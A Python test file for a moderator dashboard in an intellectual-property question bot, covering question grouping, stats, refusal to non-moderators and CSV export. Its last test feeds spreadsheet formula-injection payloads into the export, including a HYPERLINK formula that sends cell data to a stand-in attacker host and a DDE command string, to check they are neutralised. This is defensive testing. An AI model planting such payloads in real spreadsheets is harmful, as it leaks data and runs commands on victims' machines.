"""What moderators see: /stats and /gaps, refused to everyone else, and the CSV export."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.assistant import Assistant
from bot.cli import main
from bot.replies import Context, Notice, User
from bot.store import Store
from tests.conftest import CORPUS_DIR

MODERATOR = User("telegram", "42")
POOLS = [
    "what is a patent pool and should our university join one?",
    "how do patent pools work for universities",
    "should we put our patents into a patent pool?",
]
LIVING_LABS = [
    "who owns ideas citizens bring to our living lab?",
    "in a living lab, who owns the ideas citizens contribute?",
]


async def ask_unanswered(store: Store, texts: list[str]) -> None:
    for text in texts:
        await store.record_question("telegram", text, None, None, False, 0.2, [])


@pytest.fixture
def moderated(assistant: Assistant) -> Assistant:
    assistant.moderators = frozenset({MODERATOR.key})
    return assistant


async def test_gaps_group_questions_that_mean_the_same(moderated: Assistant) -> None:
    store = moderated.store
    await ask_unanswered(store, POOLS + LIVING_LABS)
    answered = await store.record_question(
        "telegram", "who owns joint results?", None, "industry-academia", True, 0.7, ["JIA-D3"]
    )
    unhelpful = await store.record_question(
        "telegram", "how do I value a patent?", None, "valuation", True, 0.6, ["VAL-R1"]
    )
    await store.record_vote(unhelpful, "telegram:7", helpful=False)
    await store.record_vote(answered, "telegram:7", helpful=True)

    gaps = await moderated.moderation.gaps()

    assert [g.size for g in gaps] == [3, 2, 1], [g.questions for g in gaps]
    assert set(gaps[0].questions) == set(POOLS)
    assert set(gaps[1].questions) == set(LIVING_LABS)
    assert gaps[2].questions == ("how do I value a patent?",), "not helpful counts as a gap"


async def test_a_moderator_reads_stats_and_gaps_in_chat(moderated: Assistant) -> None:
    await ask_unanswered(moderated.store, POOLS)
    await moderated.store.record_question("telegram", "q", None, "valuation", True, 0.6, [], 12.0)
    context = Context.private(MODERATOR)

    stats = await moderated.handle(context, "/stats 7")
    gaps = await moderated.handle(context, "/gaps")

    assert isinstance(stats, Notice) and "4 questions, 25% answered" in stats.text
    assert "IP valuation 1" in stats.text
    assert isinstance(gaps, Notice) and "3 × near" in gaps.text and "patent pool" in gaps.text
    log = await moderated.store.audit_log()
    assert [entry.action for entry in log[:2]] == ["gaps", "stats"]
    for wrong in ("/gaps 0", "/stats -5", "/gaps a week"):  # used to mean 30 days, silently
        refused = await moderated.handle(context, wrong)
        assert isinstance(refused, Notice) and refused.kind == "usage" and "1 to" in refused.text


@pytest.mark.parametrize("command", ["/stats", "/gaps", "/announce x"])
async def test_anyone_else_is_refused_politely(moderated: Assistant, command: str) -> None:
    await ask_unanswered(moderated.store, POOLS)
    reply = await moderated.handle(Context.private(User("telegram", "1")), command)

    assert isinstance(reply, Notice) and reply.kind == "refused"
    assert "patent pool" not in reply.text


def test_gaps_export_as_csv(
    data_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    database = f"sqlite:///{tmp_path / 'ipbot.db'}"
    import asyncio

    async def seed() -> None:
        store = await Store.open(database)
        await ask_unanswered(store, POOLS)
        await store.close()

    asyncio.run(seed())
    for name, value in {
        "IPBOT_DATA_DIR": str(data_dir),
        "IPBOT_CORPUS_DIR": str(CORPUS_DIR),
        "IPBOT_DATABASE_URL": database,
    }.items():
        monkeypatch.setenv(name, value)

    assert main(["gaps", "export", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))

    assert sorted(r["question"] for r in rows) == sorted(POOLS)
    assert {r["group"] for r in rows} == {"1"} and {r["group_size"] for r in rows} == {"3"}


async def test_the_gaps_export_never_hands_a_spreadsheet_a_formula(moderated: Assistant) -> None:
    """Anyone can ask "=HYPERLINK(...)": opened in a spreadsheet, it must stay text."""
    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click me") cheap flights', "+cmd|' /C calc'"]
    await ask_unanswered(moderated.store, [*typed, "-2+3 what", "@SUM(A1) now"])
    rows = list(csv.DictReader(io.StringIO(await moderated.moderation.gaps_csv())))

    questions = sorted(r["question"] for r in rows)
    assert questions and all(q.startswith("'") for q in questions), questions
    assert sorted(q[1:] for q in questions) == sorted([*typed, "-2+3 what", "@SUM(A1) now"])
